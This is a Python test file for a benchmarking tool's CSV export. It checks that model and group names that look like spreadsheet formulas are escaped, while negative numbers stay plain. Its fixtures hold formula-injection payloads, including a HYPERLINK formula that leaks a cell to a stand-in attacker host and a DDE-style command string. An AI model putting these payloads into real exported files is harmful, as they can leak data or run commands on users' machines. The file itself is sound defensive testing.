"""No CSV we write holds a cell a spreadsheet would run as a formula, and numbers stay numbers."""

from __future__ import annotations

import csv
from dataclasses import replace
from pathlib import Path

import pytest

from lvlmbench._csv import csv_safe, write_csv
from lvlmbench.autobench.leaderboard import leaderboard, write_leaderboard
from lvlmbench.report import write_report
from lvlmbench.store import Store, put_benchmark, put_items, put_responses
from lvlmbench.types import BenchmarkItem, Response

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE_MODELS = (HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd", "\t=1", "\r=1")
HOSTILE_GROUP = "=1+1"
_FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+cmd", "'+cmd"),
        ("-x", "'-x"),
        ("@a", "'@a"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-2+3", "'-2+3"),  # arithmetic, not a plain number
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        ("-1e-3", "-1e-3"),
        ("-.5", "-.5"),
        ("m/good", "m/good"),
        ("a=b", "a=b"),  # only the first character matters
        ("", ""),
        ("-", "-"),
        ("--", "'--"),
        (-0.5, -0.5),
        (None, None),
        (3, 3),
    ],
)
def test_csv_safe(value: object, expected: object) -> None:
    assert csv_safe(value) == expected


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as source:
        return list(csv.reader(source))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(_FORMULA):
                float(cell)  # only plain numbers may start like a formula


@pytest.fixture()
def hostile_store(tmp_path: Path) -> Store:
    """One choice benchmark answered by models with formula names, one group named like one."""
    store = Store.open(str(tmp_path / "store.db"))
    items = [
        BenchmarkItem(
            id=f"q{i}",
            benchmark="bench",
            kind="mc",
            question=f"Question {i}?",
            options={"A": "yes", "B": "no"},
            answer="AB"[i % 2],
            category=HOSTILE_GROUP,
            meta={"capability": HOSTILE_GROUP, "difficulty": "easy"},
        )
        for i in range(4)
    ]
    put_benchmark(store, "bench", "autobench", {})
    put_items(store, items)
    put_responses(
        store,
        [
            Response(item_id=item.id, model=model, text="A", extracted="A")
            for item in items
            for model in HOSTILE_MODELS
        ],
    )
    return store


def test_report_leaderboard_csv_neutralises_names(hostile_store: Store, tmp_path: Path) -> None:
    files = write_report(hostile_store, tmp_path / "out" / "report.html", gallery_size=0)
    rows = _cells(files.leaderboard_csv)
    _assert_no_formula(rows)
    header, body = rows[0], rows[1:]
    models = [row[header.index("model")] for row in body]
    assert sorted(models) == sorted("'" + name for name in HOSTILE_MODELS)
    # The numbers are still numbers: accuracy of the all-"A" answers is 50 %.
    assert {float(row[header.index("accuracy")]) for row in body} == {50.0}
    assert f"capability:{HOSTILE_GROUP}" in header  # prefixed names are harmless as they are


def test_autobench_leaderboard_csv_neutralises_names_not_numbers(
    hostile_store: Store, tmp_path: Path
) -> None:
    rows = leaderboard(hostile_store, ["bench"], list(HOSTILE_MODELS))
    rows.append(replace(rows[0], model="m/neg", accuracy=-0.5, ci_low=-0.75))
    paths = write_leaderboard(rows, tmp_path / "board")
    cells = _cells(paths[0])
    _assert_no_formula(cells)
    header = cells[0]
    groups = {row[header.index("capability")] for row in cells[1:]}
    assert groups == {"'" + HOSTILE_GROUP}
    negative = [row for row in cells[1:] if row[header.index("model")] == "m/neg"]
    assert negative[0][header.index("accuracy")] == "-0.5"
    assert negative[0][header.index("ci_low")] == "-0.75"


def test_write_csv_neutralises_the_header_too(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "t.csv", ["=bad", "ok"], [{"=bad": "@x", "ok": None}])
    assert _cells(path) == [["'=bad", "ok"], ["'@x", ""]]
